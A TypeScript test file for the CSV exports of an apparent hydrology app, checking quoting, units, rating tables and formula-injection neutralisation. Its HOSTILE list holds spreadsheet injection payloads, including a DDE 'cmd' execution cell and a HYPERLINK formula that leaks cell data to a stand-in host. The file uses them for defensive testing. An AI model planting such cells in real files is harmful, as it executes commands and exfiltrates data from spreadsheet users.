// CSV exports: RFC 4180 read back by papaparse (a general-purpose CSV parser, test-only oracle), a UTF-8
// byte-order mark, and formula injection neutralised as the OWASP "CSV Injection" page advises (cells
// starting with = + - @ tab or CR get a leading apostrophe; OWASP ASVS 5.0 §1.2.10 adds NUL) while
// numeric columns stay numbers. Hostile cells are the ones found in issue 10 item 9.
import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import {
  NO_DISCHARGE, CSV_BOM, csvTable, gaugingsToCsv, looksLikeFormula, ratingSegmentsToCsv, ratingTablesToCsv, readingsToCsv, stormToCsv, textField,
  type GaugingRecord, type RatingRecord, type ReadingExportRow,
} from '../../../core';

const TRIGGERS = ['=', '+', '-', '@', '\t', '\r', '\0'];
const HOSTILE = [
  "=cmd|'/C calc'!A0", // issue 10 item 9
  '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")', // issue 10 item 9
  '@obs', // issue 10 item 9
  '+1+2', '-2+3', '\t=1+1', '\r=1+1', '  =1+1', '\uFF1D1+1', '\0=1', '=1,2\n"3"',
];

function parse(csv: string): { fields: string[]; rows: Record<string, string>[] } {
  expect(csv.startsWith(CSV_BOM)).toBe(true);
  // papaparse keeps a leading byte-order mark in the first header; strip it as a spreadsheet does.
  const r = Papa.parse<Record<string, string>>(csv.slice(1), { header: true, skipEmptyLines: true, delimiter: ',' });
  expect(r.errors).toEqual([]);
  return { fields: r.meta.fields ?? [], rows: r.data };
}

/** A cell a spreadsheet would evaluate: one that starts with a trigger character (OWASP). */
const live = (cell: string) => TRIGGERS.some((t) => cell.trimStart().startsWith(t)) || TRIGGERS.includes(cell[0]);

const reading = (i: number, over: Partial<ReadingExportRow['reading']> = {}): ReadingExportRow['reading'] => ({
  id: `0b6f6a7e-1c2d-4e5f-8a9b-0c1d2e3f4a${String(i).padStart(2, '0')}`, rev: '0001764547200000-000000-devA', updated_ms: 0,
  siteId: 'site', time_ms: Date.UTC(2026, 10, 30, 21, 15) + i * 900_000, stage_m: 0.734, source: 'staff', quality: 'good',
  observer: 'K. Ferris', note: '', warnings: [], ...over,
});

describe('formula injection (OWASP CSV Injection)', () => {
  it('writes no live formula from hostile site codes, notes and observers', () => {
    const rows: ReadingExportRow[] = HOSTILE.map((text, i) => ({
      reading: reading(i, { note: text, observer: text }), discharge_m3s: 0.5, shift_m: 0, extrapolated: false,
    }));
    const csv = readingsToCsv(rows, { siteCode: "=cmd|'/C calc'!A0", timeZone: 'UTC', units: 'metric' });
    const { rows: back } = parse(csv);
    expect(back).toHaveLength(HOSTILE.length);
    let liveCells = 0;
    back.forEach((row, i) => {
      for (const cell of Object.values(row)) if (live(cell)) liveCells++;
      // The apostrophe is the only change: the text itself comes back whole.
      expect(row.note).toBe(`'${HOSTILE[i]}`);
      expect(row.observer).toBe(`'${HOSTILE[i]}`);
      expect(row.site).toBe("'=cmd|'/C calc'!A0");
    });
    expect(liveCells).toBe(0); // the report counted 29 live cells in one export
  });

  it('keeps numeric columns numbers: a stage of −0.31 m and a negative shift survive', () => {
    const csv = readingsToCsv([{ reading: reading(1, { stage_m: -0.31 }), discharge_m3s: NO_DISCHARGE, shift_m: -0.012, extrapolated: false }], { siteCode: 'XY-1', timeZone: 'UTC', units: 'metric' });
    const typed = Papa.parse<Record<string, unknown>>(csv.slice(1), { header: true, skipEmptyLines: true, dynamicTyping: true });
    expect(typed.data[0].stage_m).toBe(-0.31);
    expect(typed.data[0].shift_m).toBe(-0.012);
    expect(csv).toContain(',-0.3100,-0.0120,,');
  });

  it('leaves ordinary text alone, quoting only what RFC 4180 §2 asks', () => {
    expect(textField('plain note')).toBe('plain note');
    expect(textField('a, b')).toBe('"a, b"');
    expect(textField('3 m³/s – high')).toBe('3 m³/s – high');
    expect(textField('=1')).toBe(`"'=1"`);
  });

  it('never lets any text through live, and keeps it readable (property, papaparse oracle)', () => {
    const text = fc.oneof(fc.string(), fc.constantFrom(...HOSTILE), fc.tuple(fc.constantFrom(...TRIGGERS, ' ', '"', ','), fc.string()).map(([a, b]) => a + b));
    fc.assert(fc.property(fc.array(text, { minLength: 1, maxLength: 4 }), (cells) => {
      const csv = csvTable(cells.map((_, i) => ({ name: `c${i}`, kind: 'text' as const })), [cells]);
      // Without header or empty-line skipping, so an empty cell keeps its row; the final CRLF ends the last record.
      const r = Papa.parse<string[]>(csv.slice(1, -2), { delimiter: ',', newline: '\r\n' });
      expect(r.errors).toEqual([]);
      const back = r.data[1];
      expect(back).toHaveLength(cells.length);
      back.forEach((cell, i) => {
        expect(live(cell)).toBe(false);
        expect(cell).toBe(looksLikeFormula(cells[i]) ? `'${cells[i]}` : cells[i]);
      });
    }), { numRuns: 300 });
  });

  it('refuses a non-number in a number column rather than writing it', () => {
    expect(() => csvTable([{ name: 'stage_m', kind: 'number' }], [['=1+1']])).toThrow(/row 1, column stage_m should hold a plain number/);
    expect(() => csvTable([{ name: 'stage_m', kind: 'number' }], [['NaN']])).toThrow(RangeError);
    expect(() => csvTable([{ name: 'time', kind: 'time' }], [['2026-12-01 10:00']])).toThrow(/time with offset/);
  });
});

describe('tables', () => {
  const site = { siteCode: 'XY-1', timeZone: 'Pacific/Auckland', units: 'metric' as const };
  const env = { rev: '0001764547200000-000000-devA', updated_ms: 0 };
  const gauging: GaugingRecord = {
    id: 'a1000000-0000-4000-8000-000000000001', ...env, siteId: 's', time_ms: Date.UTC(2026, 0, 10, 1, 30), meanStage_m: 0.412,
    discharge_m3s: 1.2345678, method: 'velocity-area', grade: 'good', observer: '@field crew', note: '-silt on the control', verticals: [
      { station_m: 0, depth_m: 0.2, velocity_mps: 0.3 }, { station_m: 1, depth_m: 0.3, velocity_mps: 0.4 },
    ],
  };
  const rating: RatingRecord = {
    id: 'b1000000-0000-4000-8000-000000000001', ...env, siteId: 's', validFrom_ms: Date.UTC(2025, 5, 30, 12),
    segments: [{ fromStage_m: 0.1, coefficient: 5, offset_m: 0.1, exponent: 2 }], gaugedRange_m: [0.2, 0.6], shifts: [], fittedFrom: [], note: '=SUM(A1:A9)',
  };

  it('gaugings: units in the header, ISO 8601 time with offset, text neutralised', () => {
    const { fields, rows } = parse(gaugingsToCsv([gauging], site));
    expect(fields).toEqual(['site', 'time', 'mean_stage_m', 'discharge_m³/s', 'method', 'grade', 'verticals', 'observer', 'note', 'id', 'rev']);
    expect(rows[0].time).toBe('2026-01-10T14:30:00+13:00'); // NZDT, IANA tz database
    expect(rows[0]['discharge_m³/s']).toBe('1.23457');
    expect(rows[0].verticals).toBe('2');
    expect(rows[0].observer).toBe("'@field crew");
    expect(rows[0].note).toBe("'-silt on the control");
  });

  it('rating segments in SI and a rating table that follows Q = C·(h − e)^b exactly', () => {
    const later: RatingRecord = { ...rating, id: 'b1000000-0000-4000-8000-000000000002', validFrom_ms: Date.UTC(2026, 0, 1), note: '' };
    const seg = parse(ratingSegmentsToCsv([later, rating], site));
    expect(seg.rows.map((r) => r.rating_id)).toEqual([rating.id, later.id]); // oldest first
    expect(seg.rows[0].valid_to).toBe('2026-01-01T13:00:00+13:00');
    expect(seg.rows[1].valid_to).toBe('');
    expect(seg.rows[0]['coefficient_m3s_per_m^b']).toBe('5');
    expect(seg.rows[0].note).toBe("'=SUM(A1:A9)");
    const table = parse(ratingTablesToCsv([rating], site));
    expect(table.rows[0].stage_m).toBe('0.1000');
    expect(table.rows[0]['discharge_m³/s']).toBe('0');
    // Q = 5·(0.5 − 0.1)² = 0.8 m³/s, by hand.
    expect(table.rows.find((r) => r.stage_m === '0.5000')?.['discharge_m³/s']).toBe('0.8');
    expect(table.rows.find((r) => r.stage_m === '0.1500')?.extrapolated).toBe('yes');
    expect(table.rows[table.rows.length - 1].stage_m).toBe('1.1000'); // gauged top 0.6 m + 0.5 m headroom
  });

  it('a storm: discharge, baseflow and direct runoff (their difference), in US units with the exact factor', () => {
    const csv = stormToCsv({ series: { time_ms: [0, 3_600_000], discharge_m3s: [2.8316846592, 1] }, baseflow_m3s: [0.28316846592, 1], method: '+eckhardt' }, { ...site, units: 'us' });
    const { fields, rows } = parse(csv);
    expect(fields).toContain('direct_runoff_ft³/s');
    expect(rows[0]['discharge_ft³/s']).toBe('100'); // NIST SP 811: 1 ft³/s = 0.028316846592 m³/s
    expect(rows[0]['direct_runoff_ft³/s']).toBe('90');
    expect(rows[1]['direct_runoff_ft³/s']).toBe('0');
    expect(rows[0].method).toBe("'+eckhardt");
    expect(() => stormToCsv({ series: { time_ms: [0], discharge_m3s: [1] }, baseflow_m3s: [], method: 'x' }, site)).toThrow(RangeError);
  });
});

describe('printed rating tables (issue 20)', () => {
  // Invented rating with its zero-flow stage off the grid: e = 0.2153 m (0.706 ft).
  const rating = {
    id: 'r-us', siteId: 's', validFrom_ms: Date.UTC(2026, 0, 1), shifts: [], note: '', rev: '', updated_ms: 0,
    segments: [{ fromStage_m: 0.2153, offset_m: 0.2153, coefficient: 7.3, exponent: 1.9 }], gaugedRange_m: [0.3, 0.9],
  } as unknown as RatingRecord;
  it('starts at the first round stage at or above the zero flow and gives the discharge of the printed stage', () => {
    const { rows } = parse(ratingTablesToCsv([rating], { units: 'us', timeZone: 'UTC', siteCode: 'US-1' }));
    // 0.2153 m = 0.70636 ft (NIST SP 811: 1 ft = 0.3048 m); the first whole 0.05 ft step above it is 0.750 ft
    expect(rows[0]['stage_ft']).toBe('0.750');
    for (const r of rows.slice(0, 30)) {
      const h_m = Number(r['stage_ft']) * 0.3048;
      const q = rating.segments[0].coefficient * Math.max(0, h_m - 0.2153) ** 1.9 / 0.028316846592; // by hand, in ft³/s
      expect(Number(r['discharge_ft³/s'])).toBeCloseTo(q, 6 - Math.ceil(Math.log10(q)));
    }
  });
  it('does not mark the zero-flow row extrapolated', () => {
    const onGrid = { ...rating, segments: [{ ...rating.segments[0], fromStage_m: 0.2, offset_m: 0.2 }] } as RatingRecord;
    const { rows } = parse(ratingTablesToCsv([onGrid], { units: 'metric', timeZone: 'UTC', siteCode: 'M-1' }));
    expect(rows[0]).toMatchObject({ stage_m: '0.2000', 'discharge_m³/s': '0', extrapolated: 'no' });
    expect(rows[1].extrapolated).toBe('yes'); // 0.21 m flows below the gauged 0.3 m
  });
});
